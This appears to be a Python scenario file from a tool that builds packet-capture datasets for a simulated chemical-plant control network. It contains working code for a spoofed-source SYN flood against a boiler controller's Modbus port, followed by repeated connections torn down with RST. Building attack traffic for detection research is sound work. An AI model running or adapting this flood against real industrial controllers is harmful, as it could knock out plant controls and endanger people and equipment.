"""SYN packets under a false address fill a controller's backlog; then connections are opened and torn down with RST."""

from __future__ import annotations

import asyncio
import socket
import struct

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import MODBUS_PORT, Stage

_FALSE_ADDRESS = "10.20.1.250"
"""Nobody has it, so the controller's answers never find their way and no RST ends the half-open connections."""

_TARGET = CHEM.host("boiler")


async def attack(stage: Stage) -> None:
    """Send 700 SYN within some seconds, then abort 45 connections."""
    await stage.until(15)
    stage.mark()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        for packet in _make_packets(stage):
            link.send(packet)
            await asyncio.sleep(0.003)
    await stage.until(30)
    stage.mark()
    for _ in range(45):
        _, writer = await asyncio.open_connection(_TARGET.ip, MODBUS_PORT)
        raw = writer.get_extra_info("socket")
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close with RST
        writer.close()
        await stage.wait(0.1)


def _make_packets(stage: Stage) -> list[bytes]:
    frame = Ether(src=CHEM.host("implant").mac, dst=_TARGET.mac) / IP(src=_FALSE_ADDRESS, dst=_TARGET.ip)
    ports = stage.random.sample(range(20_000, 60_000), 700)
    return [
        bytes(frame / TCP(sport=port, dport=MODBUS_PORT, flags="S", seq=stage.random.getrandbits(32), window=1024))
        for port in ports
    ]


SCENARIO = Scenario(
    file="syn_flood.pcap",
    enterprise="chem",
    duration_s=45,
    time_scale=1,
    seed=26,
    masters=chem_masters(),
    acts={"implant": attack},
    strangers=("implant",),
)
